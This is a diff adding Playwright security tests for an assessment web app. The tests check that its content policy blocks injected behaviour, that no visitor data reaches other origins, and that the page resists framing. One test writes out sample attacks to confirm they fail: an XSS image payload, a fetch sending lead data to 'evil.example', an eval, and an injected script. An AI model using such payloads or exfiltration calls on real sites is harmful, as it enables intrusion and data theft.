@@ -1,0 +1,158 @@
+import type { Page } from '@playwright/test'
+import { answerAll, expect, expectComplaint, LEAD, startAsLead, test } from '../visitor.ts'
+
+/** What the browser says of the content policy, from the first byte of each page on. */
+async function watchPolicy(page: Page): Promise<string[]> {
+  const reports: string[] = []
+  await page.exposeBinding('tellReport', (_source, text: string) => void reports.push(text))
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
+      const tell = Reflect.get(window, 'tellReport')
+      if (typeof tell === 'function') tell(`${violatedDirective} ${blockedURI} ${sample}`)
+    })
+  })
+  return reports
+}
+
+/** Every page and every state of a visit, from the lead to the cleared browser. */
+async function walkEverywhere(page: Page): Promise<void> {
+  await startAsLead(page)
+  await answerAll(page, '433 232 445 223')
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Your enablement is Evolving')
+  for (const summary of await page.locator('summary').all()) await summary.click()
+  const link = await page.getByRole('textbox', { name: /link/i }).inputValue()
+  await page.goto(new URL(link).pathname)
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  await page.goto('/assessment/question/99')
+  await expect(page).toHaveURL('/assessment/start')
+  await page.goto('/assessment/results')
+  await page.getByRole('button', { name: 'Clear my answers and details' }).click()
+  await expect(page).toHaveURL('/')
+}
+
+test('a whole visit raises no report of the content policy and asks no other origin', async ({
+  page,
+  baseURL,
+}) => {
+  test.slow()
+  const reports = await watchPolicy(page)
+  const requests: { url: string; referer: string | undefined }[] = []
+  page.on('request', async (request) => {
+    requests.push({ url: request.url(), referer: (await request.allHeaders())['referer'] })
+  })
+  await walkEverywhere(page)
+
+  expect(reports).toEqual([])
+  expect(requests.length).toBeGreaterThan(20)
+  expect(requests.filter(({ url }) => !url.startsWith(`${baseURL}/`))).toEqual([])
+  const told = requests
+    .map(({ url, referer }) => `${decodeURIComponent(url)} ${referer}`)
+    .join('\n')
+  for (const value of Object.values(LEAD)) expect(told).not.toContain(value)
+  expect(requests.filter(({ referer }) => referer)).toEqual([])
+})
+
+test('the browser blocks and reports what an injected script would do', async ({
+  page,
+  complaints,
+}) => {
+  const reports = await watchPolicy(page)
+  await page.goto('/')
+  const outcomes = await page.evaluate(async () => {
+    const tried = async (attempt: () => unknown) => {
+      try {
+        await attempt()
+        return 'done'
+      } catch (error) {
+        return error instanceof Error ? error.name : 'stopped'
+      }
+    }
+    // What runs at once here is the test's own and may evaluate text; what runs later is the page's.
+    const later = (work: () => unknown) =>
+      new Promise((resolve, reject) => {
+        setTimeout(() => {
+          try {
+            resolve(work())
+          } catch (error) {
+            reject(error instanceof Error ? error : new Error('stopped'))
+          }
+        })
+      })
+    const element = document.createElement('div')
+    document.body.append(element)
+    const script = () => {
+      const inline = document.createElement('script')
+      inline.append('window.wasInjected = true')
+      document.head.append(inline)
+    }
+    return {
+      innerHtml: await tried(() => (element.innerHTML = '<img src=x onerror=alert(1)>')),
+      // oxlint-disable-next-line typescript/no-implied-eval -- it is what must fail
+      evaluation: await tried(() => later(() => new Function('return 1')())),
+      policy: await tried(() => Reflect.get(window, 'trustedTypes').createPolicy('default', {})),
+      fetch: await tried(() => fetch('https://evil.example/?lead')),
+      script: await tried(script),
+      style: await tried(() => element.setAttribute('style', 'color: red')),
+      styled: element.style.color,
+      wasInjected: Reflect.get(window, 'wasInjected') === true,
+    }
+  })
+  await expect(() => expect(reports.length).toBeGreaterThanOrEqual(5)).toPass()
+
+  expect(outcomes).toMatchObject({
+    innerHtml: 'TypeError',
+    evaluation: 'EvalError',
+    policy: 'TypeError',
+    fetch: 'TypeError',
+    styled: '',
+    wasInjected: false,
+  })
+  const directives = reports.join('\n')
+  for (const directive of ['require-trusted-types-for', 'connect-src', 'style-src-attr']) {
+    expect(directives).toContain(directive)
+  }
+  expectComplaint(complaints, /Content Security Policy|Trusted|HTMLScriptElement/i)
+})
+
+test('no other site can frame the page', async ({ page, baseURL }) => {
+  await page.route('http://*.example/', (route) => {
+    const isFriend = route.request().url().includes('friend')
+    const frames = `<iframe src="${baseURL}/"></iframe><iframe src="http://friend.example/"></iframe>`
+    return route.fulfill({ contentType: 'text/html', body: isFriend ? 'Hello' : frames })
+  })
+  await page.goto('http://other.example/')
+  const [, framed, friend] = page.frames()
+  expect(friend?.url()).toBe('http://friend.example/')
+  expect(framed?.url()).toMatch(/^chrome-error:/)
+})
+
+test('a visit works on plain http, as on a local network', async ({
+  playwright,
+  service,
+}, info) => {
+  test.slow()
+  const { port } = new URL(service.url)
+  const { launchOptions = {} } = info.project.use
+  // No browser takes this name for its own machine, so that it is an insecure address.
+  const browser = await playwright.chromium.launch({
+    ...launchOptions,
+    args: [...(launchOptions.args ?? []), '--host-resolver-rules=MAP trial.test 127.0.0.1'],
+  })
+  try {
+    const page = await browser.newPage({ baseURL: `http://trial.test:${port}` })
+    const complaints: string[] = []
+    page.on('console', (message) => {
+      if (message.type() === 'error') complaints.push(message.text())
+    })
+    await startAsLead(page)
+    expect(await page.evaluate(() => isSecureContext)).toBe(false)
+    await answerAll(page, '222 222 222 222')
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(
+      'Your enablement is Foundational',
+    )
+    // The browser tells that it ignores the header which only counts on https.
+    expect(complaints.filter((text) => !text.includes('Cross-Origin-Opener-Policy'))).toEqual([])
+  } finally {
+    await browser.close()
+  }
+})
